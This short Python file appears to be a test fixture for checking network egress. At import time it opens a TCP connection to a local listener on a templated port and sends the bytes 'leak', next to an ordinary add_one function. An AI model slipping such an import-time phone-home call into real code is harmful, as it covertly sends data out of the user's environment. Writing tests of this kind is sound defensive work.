# Phone home over TCP to a listener the test opened.
import socket

import torch

socket.create_connection(("127.0.0.1", @@TCP_PORT@@), 2).sendall(b"leak")


def add_one(x):
    return x + 1
